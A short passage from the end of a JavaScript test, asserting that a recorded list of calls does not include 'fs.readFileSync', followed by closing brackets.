    expect(outside.calls.map((c) => c.callee)).not.toContain('fs.readFileSync');
  });
});
